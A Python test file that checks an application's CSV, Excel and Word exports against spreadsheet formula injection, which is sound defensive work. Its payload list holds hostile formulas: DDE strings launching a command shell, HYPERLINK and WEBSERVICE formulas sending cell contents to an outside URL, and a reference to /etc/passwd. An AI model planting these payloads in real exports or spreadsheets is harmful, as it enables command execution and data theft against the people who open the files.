"""What people wrote to run on a reader's machine is text in every format, and reads back as it was written."""

import csv
import datetime as dt
import io
import re
import zipfile

import pytest
from docx import Document as WordFile
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from tests.factories import TODAY
from tracker.exports.files import write_file
from tracker.exports.harmless import as_written
from tracker.exports.information import About
from tracker.exports.sheet import Sheet, from_records, index, printable, text

ABOUT = About("=1+1", "@SUM(1)", dt.datetime(2020, 6, 16, 8, 30))
RUNS = tuple("=+-@\t\r＝＋－＠")
PAYLOADS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://x.vn/?"&A1;"bấm vào đây")',
    '=WEBSERVICE("http://x.vn/"&A1)',
    '=IMPORTXML("http://x.vn/";"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "='file:///etc/passwd'#$Sheet1.A1",
    "{=1+1}",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "-SUM(1;2)",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "a;=1+1",
    "một,=1+1\n=1+1\n- 2+cmd|'/C calc'!A0",
    '";=1+1',
    "http://x.vn/=1+1",
    "mailto:a@x.vn",
]


def written(form: str, words: list[str]) -> bytes:
    """A list of these words whose title, heads and filters say the first of them too."""
    columns = [index("TT"), text(words[0]), text("B")]
    rows = from_records(columns, words, lambda one: [one, "b"])
    sheet = Sheet(words[0], columns, rows, len(words), TODAY, filters=[(words[0], words[0])])
    target = io.BytesIO()
    write_file(sheet, form, ABOUT, target)
    return target.getvalue()


def cells(file: bytes, separator: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(file.decode("utf-8-sig"), newline=""), delimiter=separator))


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(("form", "separator", "other"), [("csv", ",", ";"), ("csv-phay", ";", ",")])
def test_a_text_file_holds_no_formula_however_it_is_cut(form, separator, other, payload):
    file = written(form, [payload])

    head, row = cells(file, separator)
    assert as_written(row[1]) == as_written(head[1]) == printable(payload)
    for cut in (separator, other, "\t"):
        assert not [cell for line in cells(file, cut) for cell in line if cell.startswith(RUNS)]


@settings(max_examples=60)
@given(st.text(alphabet="=+@-＝－'\",;\t\n\r a1|(", max_size=12))
def test_no_words_at_all_make_a_formula_of_a_cell(words):
    _head, row = cells(written("csv", [words]), ",")

    assert not row[1].startswith(RUNS)
    assert as_written(row[1]) == printable(words)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_workbook_holds_text_and_nothing_that_is_calculated_or_linked(payload):
    file = written("xlsx", [payload])

    book = load_workbook(io.BytesIO(file), keep_links=True)
    found = [cell for page in book for line in page.iter_rows() for cell in line if cell.value is not None]
    assert not [cell for cell in found if cell.data_type == "f" or cell.hyperlink]
    assert not book._external_links
    assert not [name for name in book.defined_names if "Print_Titles" not in name]
    assert book.worksheets[1]["B2"].value == printable(payload)
    parts = zipfile.ZipFile(io.BytesIO(file))
    assert not [name for name in parts.namelist() if "external" in name.lower() or "vba" in name.lower()]
    assert not [name for name in parts.namelist() if b'TargetMode="External"' in parts.read(name)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_word_file_holds_text_and_no_field_or_link(payload):
    file = written("docx", [payload])

    cell = WordFile(io.BytesIO(file)).tables[0].rows[1].cells[1]
    parts = zipfile.ZipFile(io.BytesIO(file))
    body = parts.read("word/document.xml").decode()
    assert cell.text == printable(payload)
    assert not re.search("<w:(hyperlink|fldSimple|instrText|object|altChunk)", body)
    assert not [name for name in parts.namelist() if b'TargetMode="External"' in parts.read(name)]
